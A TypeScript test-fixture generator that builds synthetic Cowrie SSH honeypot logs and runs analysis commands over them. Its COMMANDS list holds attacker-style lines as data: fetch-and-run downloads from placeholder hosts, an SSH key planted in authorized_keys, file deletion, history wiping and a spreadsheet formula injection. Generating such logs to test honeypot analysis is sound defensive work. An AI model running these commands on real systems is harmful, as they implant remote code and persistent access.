/**
 * Small archives drawn at random, out of so few values, days and sensors that what is rare elsewhere is common in them:
 * equal counts, first and last days, gaps, values of one sensor, sessions cut off, fields that are not there.
 *
 * Run directly, it writes test/fixtures/worlds.json afresh: what is written of each in answer to {@link QUESTIONS}, in short.
 * With a folder it writes the worlds there and answers, all in one process, on stdout and in files.
 */
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { realpath } from "node:fs/promises";
import { join } from "node:path";
import { EXIT, writeOut } from "../../lib/process/cli.ts";
import { errorReason } from "../../lib/text/text.ts";
import { digestFile, digestPieces, listWritten, toLines } from "./outputs.ts";
import { type Random, seededRandom } from "./random.ts";
import { makeTempDir, ROOT, run } from "./run.ts";

const DAY_MS = 86_400_000;
const FIRST_DAY = Date.UTC(2026, 2, 1) / DAY_MS;

/** Sensors and days of a world, by its number. */
const SHAPES = [
  [3, 33],
  [1, 24],
  [4, 16],
  [2, 2],
  [1, 1],
] as const;
export const WORLD_COUNT = SHAPES.length;

const ADDRESSES = ["198.51.100.7", "198.51.100.8", "198.51.100.254", "198.51.7.1", "203.0.113.9", "203.0.113.200", "192.0.2.66", "8.8.8.8", "2001:db8::1", "2001:db8::2", "::ffff:192.0.2.80", "10.0.0.3"];
const COMMANDS = [
  "uname -a", "id", "w", "cat /proc/cpuinfo", "free -m", "crontab -l", "rm -rf /tmp/*", "echo ok", "ls -la /", "history -c",
  "cd /tmp; wget http://203.0.113.77/otter.sh; sh otter.sh", "curl -s http://weasel.bad.test/w | sh", "cd /tmp || cd /var; tftp -g -r mink 198.51.100.99", "chmod 777 otter.sh && ./otter.sh",
  `echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 stoat" >> ~/.ssh/authorized_keys`, "echo -e '\\x41\\x42' > /tmp/x", `echo "${"long ".repeat(90)}"`, "passwd root", "busybox ECCHI", "=cmd|' /C calc'!A0", "  ", "ps aux | grep [m]iner",
];
const USERS = ["root", "admin", "pi", ""];
const PASSWORDS = ["root", "1234", "raspberry", "", "=1+1", "p\u001b[31m", "päss"];
const VERSIONS = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-PUTTY", "b'GET / HTTP/1.1'"];
const HASHES = ["0", "1", "2", "3"].map(digit => digit.repeat(64));
const HASSHES = ["a", "b", "c"].map(letter => letter.repeat(32));

/** When an actor is there. */
type Times = (day: number) => boolean;

interface Actor {
  readonly addresses: readonly string[];
  readonly sensors: readonly number[];
  readonly commands: readonly string[];
  readonly version: string;
  readonly hassh: string;
  readonly login: readonly [user: string, password: string];
  readonly hash: string | undefined;
  readonly isThere: Times;
  readonly perDay: number;
}

const some = <T>(random: Random, values: readonly T[], most: number): T[] => Array.from({ length: 1 + random.int(most) }, () => random.pick(values));

function drawTimes(random: Random, days: number): Times {
  const at = random.int(days);
  const length = 1 + random.int(3);
  const shapes: Times[] = [() => true, day => day >= at, day => day < at, day => day >= at && day < at + length, day => day % (length + 1) === 0, day => day !== at];
  return random.pick(shapes);
}

function drawActor(random: Random, sensors: number, days: number): Actor {
  return {
    addresses: some(random, ADDRESSES, 4),
    sensors: some(random, [...Array(sensors).keys()], sensors),
    commands: some(random, COMMANDS, 5),
    version: random.pick(VERSIONS),
    hassh: random.pick(HASSHES),
    login: [random.pick(USERS), random.pick(PASSWORDS)],
    hash: random.chance(0.5) ? random.pick(HASHES) : undefined,
    isThere: drawTimes(random, days),
    perDay: random.pick([1, 1, 2, 5, 12]),
  };
}

type Line = Record<string, unknown> & { readonly timestamp: string };

/** Events of one session; some of them are missing now and then. */
function* drawSession(random: Random, actor: Actor, sensor: string, day: number, session: string): Generator<Line> {
  // Now and then on the edge of an hour, and over midnight.
  let ms = (FIRST_DAY + day) * DAY_MS + random.int(24) * 3_600_000 + random.pick([0, 1, 1_800_000, 3_599_999, 60_000 * random.int(60)]);
  const startMs = ms;
  const address = random.pick(actor.addresses);
  const line = (eventid: string, fields: object): Line => ({
    eventid: `cowrie.${eventid}`, timestamp: new Date(ms).toISOString().replace("Z", "123Z"), session, sensor, src_ip: address, ...fields,
  });
  const wait = () => void (ms += random.pick([0, 1, 1000, 4000, 9999]));
  if (random.chance(0.97)) yield line("session.connect", { dst_port: random.pick([22, 22, 22, 23]), protocol: "ssh", src_port: 1024 + random.int(9) });
  wait();
  if (random.chance(0.9)) yield line("client.version", { version: actor.version });
  if (random.chance(0.7)) yield line("client.kex", { hassh: actor.hassh });
  if (random.chance(0.1)) yield line("client.fingerprint", { username: "root", fingerprint: "SHA256:stoat", key: "ssh-ed25519 AAAAC3Nza", type: "ssh-ed25519" });
  for (let tries = random.int(3); tries > 0; tries--) {
    wait();
    yield line("login.failed", { username: random.pick(USERS), password: random.pick(PASSWORDS) });
  }
  if (random.chance(0.7)) {
    const [username, password] = actor.login;
    yield line("login.success", { username, password });
    if (random.chance(0.1)) yield line("direct-tcpip.request", { dst_ip: random.pick(["192.0.2.200", "mail.bad.test"]), dst_port: random.pick([25, 80, 443]) });
    for (const input of random.chance(0.8) ? actor.commands : some(random, COMMANDS, 3)) {
      wait();
      yield line("command.input", { input, ...(random.chance(0.03) && { realm: "mysql" }) });
    }
    if (actor.hash !== undefined) {
      wait();
      const isUpload = random.chance(0.2);
      yield isUpload ? line("session.file_upload", { filename: "/tmp/mink", shasum: actor.hash }) : line("session.file_download", { url: random.chance(0.8) ? "http://203.0.113.77/otter.sh" : undefined, outfile: "dl/x", shasum: actor.hash });
      if (random.chance(0.1)) yield line("virustotal.scanfile", { sha256: actor.hash, positives: random.int(4), total: 60 });
      if (random.chance(0.1)) yield line("session.file_download.failed", { url: "http://weasel.bad.test/w" });
    }
  }
  wait();
  if (random.chance(0.93)) yield line("session.closed", { duration: random.pick([(ms - startMs) / 1000, 10, "9.9", 10.1, 0]) });
}

/**
 * Write the logs of a world, one a sensor and day.
 *
 * @param number Below {@link WORLD_COUNT}; the same number gives the same bytes.
 */
export function writeWorld(folder: string, number: number): void {
  const [sensors, days] = SHAPES[number]!;
  const random = seededRandom(`world ${number}`);
  const actors = Array.from({ length: 6 + 2 * sensors }, () => drawActor(random, sensors, days));
  // One joins late, one stops, one has a gap; all of them tell by an event of their own that they run.
  const isUp = Array.from({ length: sensors }, (_, sensor) => (sensor === 0 ? () => true : drawTimes(random, days)));
  for (let sensor = 0; sensor < sensors; sensor++) {
    const name = ["heron", "ibis", "kite", "lark"][sensor]!;
    mkdirSync(join(folder, name), { recursive: true });
    for (let day = 0; day < days; day++) {
      if (!isUp[sensor]!(day)) continue;
      const lines: Line[] = [];
      for (const [i, actor] of actors.entries()) {
        if (!actor.sensors.includes(sensor) || !actor.isThere(day)) continue;
        const sessions = random.int(actor.perDay + 1);
        for (let n = 0; n < sessions; n++) lines.push(...drawSession(random, actor, name, day, `${i}${n}${day}${sensor}`.padStart(12, "0")));
      }
      lines.sort((a, b) => (a.timestamp < b.timestamp ? -1 : a.timestamp > b.timestamp ? 1 : 0));
      const date = new Date((FIRST_DAY + day) * DAY_MS).toISOString().slice(0, 10);
      if (lines.length > 0) writeFileSync(join(folder, name, `cowrie.json.${date}`), lines.map(one => `${JSON.stringify(one)}\n`).join(""));
    }
  }
}

/** Command lines about the world `w`; its tables are in `t`, the reduced one is `w.arrow`. */
export const QUESTIONS: readonly string[] = [
  "analyze-local w --mapped-dir t -f w.json -o w.html -n 4 -q",
  "statistics w.arrow --json --all -q",
  "statistics w.arrow -l 3 -t 50 --any-dependence -o w3.html -q",
  "history w.arrow -n 0 --json -q",
  "history w.arrow -n 0 --csv --sensor heron --since 2026-03-04 -q",
  "campaigns w --mapped-dir t --json -q",
  "campaigns w --mapped-dir t -n 0 -l 3 -q",
  "digest w --mapped-dir t --since 2026-03-02 --until 2026-03-09 -q",
  "indicators w --mapped-dir t --format json --keep-reserved --with-campaigns -q",
  "indicators w --mapped-dir t --format csv --min-sensors 2 --defang -q",
  "indicators w --mapped-dir t --format stix --tlp amber -q",
  "indicators w --mapped-dir t --format misp --split day --org otter -o misp -q",
  "indicators w --mapped-dir t --for hosts -q",
  "command-chains w --mapped-dir t -t 1 --json -q",
  "command-chains w --mapped-dir t -t 2 --steps 3 --top 2 --raw -o chains.html -q",
  "value-counts w --mapped-dir t --column technique --by sensor --json -q",
  "value-counts w --mapped-dir t --column username,password --by hour --csv -n 2 --normalize -q",
  "value-counts w --mapped-dir t --column session,duration --event session.closed --where duration!=10 -n 3 -q",
  "trace-ip w --mapped-dir t -i 198.51.100.0/24 --json -q",
  "trace-ip w --mapped-dir t -i 203.0.113.9 -i 2001:db8::/32 -n 3 --with-commands -q",
  "trace-ip w --mapped-dir t -i 198.51.100.8 -n 4 -o trace.html -q",
  "summary w --mapped-dir t -q",
  "summary w --mapped-dir t --json --sensor heron --until 2026-03-03 -n 2 -q",
  "export w --mapped-dir t -o export --by month -q",
];
/** No output holds it. */
const MARK = "\u0001";

/** What all questions about all worlds write, by question and by file. */
export async function askAll(): Promise<Record<string, string>> {
  await using dir = await makeTempDir();
  const folder = await realpath(dir.path);
  const { stdout, stderr, exitCode } = await run([process.execPath, import.meta.path, folder]);
  if (exitCode !== 0) throw new Error(stderr);
  const said = stdout.split(MARK).slice(1).map(part => {
    const [question, ...lines] = part.split("\n");
    return [question!, digestPieces(lines.join("\n"), folder)] as const;
  });
  const files = [...listWritten(folder).keys()].filter(name => !/^world-\d\/[tw]\//.test(name)).sort();
  return toLines(Object.fromEntries([...said, ...files.map(name => [name, digestFile(folder, name)] as const)]));
}

const AGREED = join(ROOT, "test/fixtures/worlds.json");

export const readAgreedWorlds = (): unknown => JSON.parse(readFileSync(AGREED, "utf8"));

async function answerAll(folder: string): Promise<void> {
  for (let number = 0; number < WORLD_COUNT; number++) {
    const own = join(folder, `world-${number}`);
    writeWorld(join(own, "w"), number);
    process.chdir(own);
    for (const question of QUESTIONS) {
      const [name, ...args] = question.split(" ");
      await writeOut(`${MARK}${number}: ${question}\n`);
      const { main } = (await import(`../../scripts/${name}.ts`)) as { main(argv: string[]): Promise<number> };
      const end = await main(args).catch((error: unknown) => errorReason(error));
      if (end !== EXIT.ok) await writeOut(`\nends with ${end}\n`);
    }
  }
}

if (import.meta.main) {
  const folder = process.argv[2];
  if (folder !== undefined) await answerAll(folder);
  else writeFileSync(AGREED, `${JSON.stringify(await askAll(), null, 1)}\n`);
}
